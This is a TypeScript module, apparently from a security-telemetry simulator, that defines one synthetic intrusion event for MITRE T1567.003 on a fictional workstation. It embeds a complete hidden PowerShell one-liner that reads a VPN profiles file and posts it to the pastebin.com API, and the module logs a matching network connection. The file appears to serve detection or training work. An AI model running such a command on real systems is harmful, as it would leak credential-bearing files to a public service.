import { programs } from '../programs.ts';
import { clock, type Intrusion } from './intrusion.ts';

/** A note of 12 KB goes to a paste site. */
export const pasteByPowerShell: Intrusion = {
  name: 'paste-powershell',
  technique: 'T1567.003',
  device: 'lf-ws-006',
  dayNumber: 0,
  service: 'pastebin.com',
  tell: (desk, midnight, _random, incident) => {
    const at = clock(midnight, 10, 41, 5);
    const shell = desk.launch(programs.powershell, {
      at,
      commandLine: `powershell.exe -nop -w hidden -c "$t=gc $env:APPDATA\\vpn\\profiles.xml -Raw; irm https://pastebin.com/api/api_post.php -Method Post -Body @{api_option='paste';api_dev_key='${'0'.repeat(32)}';api_paste_code=$t}"`,
    });
    desk.connect(shell, 'pastebin.com', {
      at: at + 1_300_000,
      lasting: 900_000,
      sent: 12_280,
      received: 610,
      incident,
    });
  },
};
